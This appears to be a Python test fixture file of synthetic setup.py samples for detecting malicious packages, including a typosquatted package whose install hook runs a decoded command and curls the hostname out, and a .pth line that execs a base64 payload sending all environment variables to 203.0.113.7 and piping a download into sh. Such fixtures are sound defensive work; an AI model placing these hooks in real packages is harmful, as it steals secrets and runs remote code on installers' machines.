"""Synthetic install-time scripts written for the tests.

None of these is copied from a real malware sample: they imitate the
common patterns (an install hook that decodes a payload and hands it to
a shell, a beacon that posts host data) with harmless, made-up content.
The CANARY_SETUP writes a marker file if anything ever executes it.
"""

from __future__ import annotations

BENIGN_SETUP = """\
import os
from setuptools import setup, find_packages

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md"), encoding="utf-8") as fh:
    long_description = fh.read()

setup(
    name="tidy-widgets",
    version="1.2.0",
    description="Small helpers for tidy widgets",
    long_description=long_description,
    long_description_content_type="text/markdown",
    packages=find_packages(exclude=["tests"]),
    install_requires=["attrs>=22"],
    python_requires=">=3.8",
    classifiers=["Programming Language :: Python :: 3"],
)
"""

# A cmdclass install hook that decodes a base64 string and runs it in a shell:
# the shape most install-time payloads take. The decoded text is a harmless echo.
MALICIOUS_SETUP = """\
import base64
import os
import socket
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        host = socket.gethostname()
        cmd = base64.b64decode("ZWNobyBmaXh0dXJlLW9ubHkgPiAvZGV2L251bGw=").decode()
        os.system(cmd)
        subprocess.Popen(["curl", "-s", "-d", host, "http://203.0.113.7/collect"])


setup(
    name="tidy-widgetz",
    version="9.9.9",
    packages=[],
    cmdclass={"install": PostInstall},
)
"""


def canary_setup(marker: str) -> str:
    """A setup.py that leaves `marker` behind if it is ever run or imported."""
    return f"""\
import pathlib
pathlib.Path({marker!r}).write_text("setup.py was executed")
from setuptools import setup
setup(name="canary-pkg", version="0.1.0", packages=[], install_requires=["tidy-widgets"])
"""


def _pth_injector() -> str:
    """A `.pth` line that decodes and execs a payload at every interpreter start (the
    payload posts the environment to a documentation-range address and pipes a
    download into a shell; it is never run anywhere)."""
    import base64

    payload = (
        "import os, subprocess, urllib.request\n"
        "data = repr(dict(os.environ)).encode()\n"
        'urllib.request.urlopen("http://203.0.113.7/collect", data=data)\n'
        'subprocess.Popen(["sh", "-c", "curl -s http://203.0.113.7/x | sh"])\n'
    )
    return (
        f"import base64; exec(base64.b64decode('{base64.b64encode(payload.encode()).decode()}'))\n"
    )


#: The startup hook a compromised wheel ships beside a clean package.
PTH_INJECTOR = _pth_injector()
